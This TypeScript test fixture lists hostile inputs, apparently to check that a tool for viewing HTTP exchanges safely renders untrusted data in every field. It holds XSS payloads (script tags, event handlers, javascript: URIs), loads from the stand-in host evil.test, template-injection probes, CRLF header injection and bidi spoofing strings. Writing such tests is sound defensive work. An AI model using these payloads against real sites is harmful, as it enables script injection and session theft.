import type { Exchange } from '#engine/model/exchange.ts'
import { sampleExchange, textBody } from '../sample-exchanges.ts'

/** Texts that attack a page or its layout. */
export const PAYLOADS = [
  // Elements and attributes that run or load something.
  '<script>document.title="owned"</script>',
  '<img src=x onerror="document.title=\'owned\'">',
  '"><svg onload=document.title="owned">',
  '</script><script>document.title="owned"</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<iframe srcdoc="<script>parent.document.title=1</script>">',
  '<iframe src="javascript:parent.document.title=1">',
  '<object data="//evil.test/x.swf">',
  '<embed src="//evil.test/x">',
  '<link rel=stylesheet href="//evil.test/x.css">',
  '<link rel=prefetch href="//evil.test/x">',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  '<form action="//evil.test/"><button>Send</button></form>',
  '<video src="//evil.test/x" onerror="document.title=1">',
  '<audio autoplay src="//evil.test/x">',
  '<details open ontoggle="document.title=1">',
  '<input autofocus onfocus="document.title=1">',
  '<body onload="document.title=1">',
  '<math><mtext></mtext><script>document.title=1</script></math>',
  '<svg><use href="//evil.test/x.svg#a"/></svg>',
  '<svg><animate onbegin="document.title=1" attributeName=x dur=1s>',
  '<style>@import "//evil.test/x.css";</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.test/x)">',
  '<template><img src=x onerror="document.title=1"></template>',
  '<noscript><p title="</noscript><img src=x onerror=document.title=1>">',
  '<textarea></textarea><img src=x onerror="document.title=1">',
  '<plaintext>',
  // Ends of a surrounding text, and code for its reader.
  'javascript:document.title="owned"',
  'data:text/html,<script>document.title=1</script>',
  'vbscript:alert(1)',
  '" onmouseover="document.title=1" x="',
  "'+alert(1)+'",
  '`${document.title=1}`',
  '{{constructor.constructor("document.title=1")()}}',
  '${{7*7}}',
  '<%= 7 * 7 %>',
  '<!--<script>',
  '-->',
  ']]>',
  '*/document.title=1/*',
  '</textarea></title></style></template>',
  '%3Cscript%3E',
  '&lt;script&gt;&#x3c;script&#x3e;',
  '\\u003cscript\\u003e',
  '__proto__',
  'constructor',
  // The syntax of the address and of the filter.
  '#/exchanges?q=body:"x"&x=1',
  'is:violation -body:"',
  '?token=00&pair=1',
  // Directions, invisible characters, and controls.
  '\u202egnp.exe\u202c',
  '\u2066\u2067\u2068nested\u2069',
  '\u0000\u0007\u001b[31mred\u001b[0m',
  '\u2028\u2029\ufeff\u200b',
  'a\r\nSet-Cookie: b=c\r\n\r\n<script>',
  '\ud800 lone \udfff',
  // Huge, wide, and tall values.
  'x'.repeat(30_000),
  `z${'\u0310\u0489'.repeat(500)}`,
  '\ufdfd'.repeat(200),
  'line\n'.repeat(2_000),
]

/** Exchanges with a payload in each field: for tests. */
export function hostileExchanges(): readonly Exchange[] {
  return PAYLOADS.map((payload, index) =>
    sampleExchange({
      index,
      startedAt: index,
      endedAt: index + 1,
      actor: payload,
      probe: payload,
      connection: payload,
      request: {
        method: payload,
        target: `/api/${payload}?${payload}`,
        headers: [
          ['User-Agent', payload],
          [payload, payload],
        ],
        body: textBody(payload),
      },
      response: {
        reason: payload,
        headers: [['Content-Type', payload]],
        // As JSON and as text in turn.
        body: textBody(index % 2 === 0 ? JSON.stringify({ [payload]: payload }) : payload),
      },
    }),
  )
}
